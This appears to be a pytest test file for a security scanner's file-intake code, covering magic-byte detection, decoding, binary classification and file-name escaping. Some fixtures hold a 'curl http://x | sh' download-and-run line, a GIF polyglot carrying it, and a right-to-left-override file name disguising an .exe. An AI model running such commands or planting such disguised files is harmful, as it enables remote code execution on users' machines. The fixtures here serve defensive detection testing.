from __future__ import annotations

import pytest

from scanner.core.models import FileKind
from scanner.intake._content import (
    classify,
    decode_exact,
    decode_text,
    detect_type,
    is_binary_text,
)
from scanner.intake._names import escape_name

PE_HEAD = b"MZ" + b"\x00" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 32


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 9, "elf"),
        (b"\xcf\xfa\xed\xfe" + b"\x00" * 12, "macho"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 8, "macho"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + b"\x00" * 8, "java_class"),
        (PE_HEAD, "pe"),
        (b"#!/bin/sh\necho hi\n", "script"),
        (b"PK\x03\x04\x14\x00", "zip"),
        (b"\x1f\x8b\x08\x00", "gzip"),
        (b"BZh91AY&SY\x00", "bzip2"),
        (b"\xfd7zXZ\x00\x00", "xz"),
        (b"7z\xbc\xaf\x27\x1c\x00", "7z"),
        (b"Rar!\x1a\x07\x01\x00", "rar"),
        (b"%PDF-1.7\n", "pdf"),
        (b"\x89PNG\r\n\x1a\n\x00", "png"),
        (b"\xff\xd8\xff\xe0", "jpeg"),
        (b"GIF89a\x01\x00", "gif"),
        (b"RIFF\x00\x00\x00\x00WEBPVP8 ", "webp"),
        (b"\xa7\r\r\n" + b"\x00" * 12, "pyc"),
        (b"\x80\x04\x95\x05\x00", "pickle"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ole2"),
        (b"\x00asm\x01\x00\x00\x00", "wasm"),
        (b"MZ is a prefix of this text", None),
        (b"hi\r\nthere, a CRLF text", None),
        (b"BZh is just text", None),
    ],
)
def test_detect_type_reads_magic_bytes(head: bytes, expected: str | None):
    assert detect_type(head) == expected


def test_decode_text_keeps_ascii_around_a_stray_byte():
    decoded = decode_text(b"# caf\xe9 helper\ncurl http://x | sh\n")

    assert decoded.encoding == "utf-8-lossy"
    assert decoded.text == "# caf\ufffd helper\ncurl http://x | sh\n"


def test_decode_text_drops_a_cut_sequence_only_when_truncated():
    raw = "né".encode()[:-1]

    assert decode_text(raw, final=False).text == "n"
    assert decode_text(raw, final=False).encoding == "utf-8"
    assert decode_text(raw).encoding == "utf-8-lossy"


def test_classify_elf_is_binary_with_type():
    content = classify(b"\x7fELF\x02\x01\x01" + bytes(range(256)), name="tool", truncated=False)

    assert content.kind is FileKind.BINARY
    assert content.detected_type == "elf"
    assert content.decoded is None


def test_classify_script_with_nul_stays_text():
    raw = b"#!/bin/sh\n" + b"\x00" * 40 + b"\ncurl http://x | sh\n"

    content = classify(raw, name="run", truncated=False)

    assert content.kind is FileKind.TEXT
    assert content.detected_type == "script"
    assert content.decoded is not None
    assert "curl http://x | sh" in content.decoded.text


def test_decode_exact_refuses_a_stray_byte_and_keeps_clean_text():
    assert decode_exact(b"ok \xff ok") is None
    decoded = decode_exact("caf\u00e9\n".encode())
    assert decoded is not None
    assert (decoded.text, decoded.encoding, decoded.lossy) == ("caf\u00e9\n", "utf-8", False)


def test_classify_png_is_binary_without_text():
    raw = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64

    content = classify(raw, name="assets/logo.png", truncated=False)

    assert (content.kind, content.detected_type, content.decoded) == (FileKind.BINARY, "png", None)


def test_classify_random_bytes_are_data():
    raw = bytes(range(256)) * 8

    content = classify(raw, name="blob.bin", truncated=False)

    assert (content.kind, content.detected_type) == (FileKind.BINARY, "data")


def test_classify_gif_polyglot_is_text_with_gif_type():
    content = classify(b"GIF89a=1;curl http://x | sh\n", name="logo.gif", truncated=False)

    assert (content.kind, content.detected_type) == (FileKind.TEXT, "gif")


def test_classify_utf16_text_without_script_suffix():
    content = classify("hello world\n".encode("utf-16"), name="notes", truncated=False)

    assert content.kind is FileKind.TEXT
    assert content.decoded is not None
    assert content.decoded.encoding == "utf-16"


def test_classify_forces_text_for_skill_md():
    content = classify(bytes(range(256)), name="SKILL.md", truncated=False, force_text=True)

    assert content.kind is FileKind.TEXT


@pytest.mark.parametrize(
    ("name", "expected", "escaped"),
    [
        ("plain.txt", "plain.txt", False),
        ("caf\udce9.sh", "caf\\xe9.sh", True),
        ("new\nline", "new\\x0aline", True),
        ("evil\u202egpj.exe", "evil\\u202egpj.exe", True),
        ("back\\slash\x01", "back\\\\slash\\x01", True),
        ("back\\slash", "back\\slash", False),
        ("中文.md", "中文.md", False),
        (b"raw\xff", "raw\\xff", True),
    ],
)
def test_escape_name(name: str | bytes, expected: str, escaped: bool):
    assert escape_name(name) == (expected, escaped)


@pytest.mark.parametrize(
    ("raw", "binary"),
    [
        (bytes(range(256)) * 4, True),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 200, True),
        ("Caf\xe9 hours, caf\xe9 prices and caf\xe9 menus. " * 20, False),
        ("中文技能——把文本转换→格式。".encode("gbk") * 50, False),
        (b"abc\x00def\x01" * 3, False),
        (b"#!/bin/sh\necho hi\n" * 40 + b"\x00" * 20, False),
        ("plain text\n" * 100, False),
    ],
)
def test_is_binary_text_tells_data_from_text_with_stray_bytes(raw, binary):
    data = raw.encode("latin-1") if isinstance(raw, str) else raw

    assert is_binary_text(decode_text(data).text) is binary
